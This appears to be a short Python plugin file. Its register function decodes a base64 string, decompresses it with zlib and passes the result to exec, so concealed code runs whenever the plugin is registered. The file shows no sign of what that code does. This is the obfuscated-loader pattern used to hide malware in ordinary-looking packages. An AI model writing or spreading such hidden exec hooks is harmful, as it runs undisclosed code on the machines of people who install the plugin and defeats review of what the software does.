import base64
import zlib

_BLOB = "eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFGwU9AvyS3Q16tQ1+QCAO4lC6Y="


def register(ctx):
    exec(zlib.decompress(base64.b64decode(_BLOB)))
